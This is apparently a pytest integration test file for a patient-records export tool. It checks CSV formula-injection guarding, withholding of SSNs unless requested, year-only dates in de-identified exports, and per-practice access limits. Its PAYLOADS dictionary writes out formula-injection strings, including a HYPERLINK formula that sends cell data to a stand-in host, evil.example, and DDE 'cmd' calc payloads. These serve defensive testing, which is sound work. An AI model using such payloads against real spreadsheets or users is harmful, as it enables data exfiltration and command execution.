"""What an export keeps in: formulas a patient typed, SSNs, and the date detail that
de-identification must not let through (issue 14, items 13, 14 and 16)."""

from __future__ import annotations

import re
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path

import pytest
from sqlalchemy import Engine, update

from odbridge.export import ExportError, export
from odbridge.store.audit import entries
from odbridge.store.schema import patients
from tests.integration.test_export_command import run
from tests.integration.test_export_support import (
    MAIN,
    NORTH,
    PAT_NUM_OFFSET,
    READERS,
    TODAY,
    prepare_store,
    read_csv,
    store_records,
)

pytestmark = pytest.mark.integration

# What patients can type into web forms, each a formula (or the start of one) in Excel,
# LibreOffice or Google Sheets.
PAYLOADS = {
    "fname": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "lname": "+1+cmd|' /C calc'!A0",
    "preferred": "-2+3",
    "email": "@SUM(1+1)*cmd|' /C calc'!A0",
    "address": "\t=1+1",
    "address2": "\r=1+1",
    "city": "  =1+1",  # spaces in front do not stop a spreadsheet
    "ward": "\uff1d1+1",  # full-width equals sign
}


def plant(store: Engine, pat: int, **values: object) -> None:
    with store.begin() as connection:
        connection.execute(
            update(patients)
            .where(patients.c.practice == MAIN, patients.c.pat_num == PAT_NUM_OFFSET + pat)
            .values(**values)
        )


@pytest.fixture
def small_store(store: Engine) -> Engine:
    prepare_store(store, main=40, north=5)
    plant(store, 20, est_balance=Decimal("-12.50"), **PAYLOADS)
    return store


# -- item 13: CSV formula injection ---------------------------------------------------------


def test_csv_cells_a_spreadsheet_would_run_are_neutralised(
    small_store: Engine, tmp_path: Path
) -> None:
    out = tmp_path / "p.csv"
    export(small_store, format="csv", out=out, columns="pat_num,est_balance," + ",".join(PAYLOADS))
    row = next(r for r in read_csv(out) if r["pat_num"] == str(PAT_NUM_OFFSET + 20))
    for column, typed in PAYLOADS.items():
        assert row[column] == "'" + typed, column  # shown as text, never run
    assert row["est_balance"] == "-12.50"  # a number odbridge wrote, not patient text
    for other in read_csv(out):
        for column in PAYLOADS:
            assert not other[column].lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r"))


def test_the_opt_out_writes_csv_cells_as_typed_and_is_audited(
    small_store: Engine, tmp_path: Path
) -> None:
    out = tmp_path / "raw.csv"
    export(
        small_store,
        format="csv",
        out=out,
        columns="pat_num," + ",".join(PAYLOADS),
        guard_formulas=False,
    )
    row = next(r for r in read_csv(out) if r["pat_num"] == str(PAT_NUM_OFFSET + 20))
    assert {column: row[column] for column in PAYLOADS} == PAYLOADS
    (entry, *_) = entries(small_store)
    assert "formulas_as_typed" in (entry.detail or "")


def test_the_command_line_guards_csv_unless_told_otherwise(
    small_store: Engine, store_url: str, tmp_path: Path
) -> None:
    url = store_url
    guarded, raw = tmp_path / "g.csv", tmp_path / "r.csv"
    assert run("export", "--db", url, "-o", str(guarded), "--columns", "pat_num,fname")[0] == 0
    code, _, stderr = run(
        "export", "--db", url, "-o", str(raw), "--columns", "pat_num,fname", "--allow-formulas"
    )
    assert code == 0, stderr
    pick = str(PAT_NUM_OFFSET + 20)
    assert [r["fname"] for r in read_csv(guarded) if r["pat_num"] == pick] == [
        "'" + PAYLOADS["fname"]
    ]
    assert [r["fname"] for r in read_csv(raw) if r["pat_num"] == pick] == [PAYLOADS["fname"]]


# -- item 16: SSNs only when asked for ------------------------------------------------------


@pytest.mark.parametrize("fmt", ["csv", "jsonl", "parquet", "xlsx"])
def test_ssns_are_left_out_unless_asked_for(small_store: Engine, tmp_path: Path, fmt: str) -> None:
    suffix = {"csv": "csv", "jsonl": "jsonl", "parquet": "parquet", "xlsx": "xlsx"}[fmt]
    ssns = {r["ssn"] for r in store_records(small_store) if r["ssn"]}
    assert len(ssns) > 10
    plain = export(small_store, format=fmt, out=tmp_path / f"plain.{suffix}")
    rows = READERS[fmt](tmp_path / f"plain.{suffix}")
    assert "ssn" not in rows[0]
    assert (plain.ssn_included, plain.ssn_left_out) == (False, True)
    if fmt in ("csv", "jsonl"):
        text = (tmp_path / f"plain.{suffix}").read_text(encoding="utf-8")
        assert not any(ssn in text for ssn in ssns)
    asked = export(small_store, format=fmt, out=tmp_path / f"ssn.{suffix}", include_ssn=True)
    rows = READERS[fmt](tmp_path / f"ssn.{suffix}")
    assert {str(r["ssn"]) for r in rows if r["ssn"]} == ssns
    assert (asked.ssn_included, asked.ssn_left_out) == (True, False)
    (entry, *_) = entries(small_store)
    assert "ssn" in (entry.detail or "").split("; ")


def test_naming_the_ssn_column_needs_the_flag(small_store: Engine, tmp_path: Path) -> None:
    with pytest.raises(ExportError, match="add --include-ssn"):
        export(small_store, format="csv", out=tmp_path / "x.csv", columns="pat_num,ssn")
    assert not (tmp_path / "x.csv").exists()
    result = export(
        small_store, format="csv", out=tmp_path / "x.csv", columns="pat_num,ssn", include_ssn=True
    )
    assert result.ssn_included
    assert list(read_csv(tmp_path / "x.csv")[0]) == ["pat_num", "ssn"]


def test_the_command_line_summary_says_where_the_ssns_are(
    small_store: Engine, store_url: str, tmp_path: Path
) -> None:
    url = store_url
    _, _, stderr = run("export", "--db", url, "-o", str(tmp_path / "a.csv"))
    assert "SSNs left out (add --include-ssn to export them)." in " ".join(stderr.split())
    _, _, stderr = run("export", "--db", url, "-o", str(tmp_path / "b.csv"), "--include-ssn")
    assert "Full SSNs included" in stderr
    _, stdout, _ = run("export", "--list-columns")
    assert "ssn  (only with --include-ssn)" in stdout.splitlines()


# -- item 14: no date detail finer than the year when de-identified --------------------------


def test_de_identified_ages_do_not_tell_the_birthdays_side_of_the_export_date(
    small_store: Engine, tmp_path: Path
) -> None:
    # Two patients born the same year, on its first and last day: with month and day used,
    # an export in June gives them different ages, and repeated exports find the birthday.
    plant(small_store, 21, birthdate=date(1980, 1, 1))
    plant(small_store, 22, birthdate=date(1980, 12, 31))
    ages = set()
    for day in (date(2026, 1, 1), TODAY, date(2026, 12, 31)):
        out = tmp_path / f"d-{day}.csv"
        export(
            small_store,
            format="csv",
            out=out,
            columns="pat_num,birthdate",
            deidentify=True,
            key_file=tmp_path / "k",
            today=day,
        )
        by_id = {r["patient_id"]: r for r in read_csv(out)}
        ages |= {(r["birth_year"], r["age"]) for r in by_id.values() if r["birth_year"] == "1980"}
    assert ages == {("1980", "46")}


def test_changed_since_is_refused_with_deidentify(small_store: Engine, tmp_path: Path) -> None:
    with pytest.raises(ExportError, match="cannot be combined with --deidentify"):
        export(
            small_store,
            format="csv",
            out=tmp_path / "d.csv",
            deidentify=True,
            key_file=tmp_path / "k",
            changed_since=date(2026, 1, 1),
        )
    assert not (tmp_path / "d.csv").exists()


def core_properties(path: Path) -> str:
    with zipfile.ZipFile(path) as book:
        return book.read("docProps/core.xml").decode("utf-8")


def test_a_de_identified_workbook_is_dated_by_the_year_only(
    small_store: Engine, tmp_path: Path
) -> None:
    export(
        small_store,
        format="xlsx",
        out=tmp_path / "d.xlsx",
        deidentify=True,
        key_file=tmp_path / "k",
    )
    core = core_properties(tmp_path / "d.xlsx")
    stamps = re.findall(r"<dcterms:(created|modified)[^>]*>([^<]+)<", core)
    year = datetime.now(UTC).year
    start_of_year = f"{year}-01-01T00:00:00Z"
    assert sorted(stamps) == [("created", start_of_year), ("modified", start_of_year)]
    with zipfile.ZipFile(tmp_path / "d.xlsx") as book:  # the parts carry no time either
        assert {info.date_time[:3] for info in book.infolist()} <= {(1980, 1, 1), (1980, 1, 31)}


# -- item 6 (export side): a user's practices limit what an export reads ---------------------


def test_an_export_limited_to_some_practices_never_holds_the_others(
    small_store: Engine, tmp_path: Path
) -> None:
    result = export(
        small_store, format="jsonl", out=tmp_path / "mine.jsonl", allowed_practices={MAIN}
    )
    rows = READERS["jsonl"](tmp_path / "mine.jsonl")
    assert {row["practice"] for row in rows} == {MAIN}
    assert result.rows == len(store_records(small_store, practice=MAIN))
    (entry, *_) = entries(small_store)
    assert f"practices={MAIN}" in (entry.detail or "").split("; ")
    nothing = export(small_store, format="csv", out=tmp_path / "none.csv", allowed_practices=())
    assert nothing.rows == 0
    assert read_csv(tmp_path / "none.csv") == []


def test_naming_a_practice_outside_ones_own_is_refused(small_store: Engine, tmp_path: Path) -> None:
    with pytest.raises(ExportError, match=f"may not export practice '{NORTH}'"):
        export(
            small_store,
            format="csv",
            out=tmp_path / "theirs.csv",
            practice=NORTH,
            allowed_practices={MAIN},
        )
    assert not (tmp_path / "theirs.csv").exists()
    mine = export(
        small_store, format="csv", out=tmp_path / "m.csv", practice=MAIN, allowed_practices={MAIN}
    )
    assert mine.rows == len(store_records(small_store, practice=MAIN))


def test_an_export_for_a_dashboard_user_holds_only_their_practices(
    small_store: Engine, store_url: str, tmp_path: Path
) -> None:
    from odbridge.store.users import add_user, set_disabled

    add_user(small_store, "alice", "a long enough password", practices=[MAIN])
    out = tmp_path / "alice.csv"
    code, _, stderr = run("export", "--db", store_url, "-o", str(out), "--as-user", "Alice")
    assert code == 0, stderr
    assert {row["practice"] for row in read_csv(out)} == {MAIN}
    (entry, *_) = entries(small_store)
    assert entry.username.endswith(" as alice")
    assert entry.username.startswith("os:")
    assert f"practices={MAIN}" in (entry.detail or "")
    # another practice, by name: refused, nothing written
    theirs = tmp_path / "north.csv"
    code, _, stderr = run(
        "export", "--db", store_url, "-o", str(theirs), "--as-user", "alice", "-p", NORTH
    )
    assert code == 2
    assert f"may not export practice '{NORTH}'" in " ".join(stderr.split())
    assert not theirs.exists()
    # a visit table is limited the same way
    code, _, stderr = run(
        "export",
        "--db",
        store_url,
        "-o",
        str(tmp_path / "r.csv"),
        "--table",
        "recalls",
        "--as-user",
        "alice",
        "-p",
        NORTH,
    )
    assert code == 2
    assert "may not export practice" in " ".join(stderr.split())
    # no such user, or a disabled one: refused
    set_disabled(small_store, "alice")
    for name in ("alice", "mallory"):
        code, _, stderr = run(
            "export", "--db", store_url, "-o", str(tmp_path / "x.csv"), "--as-user", name
        )
        assert code == 2
        assert f"no enabled user named '{name}'" in stderr
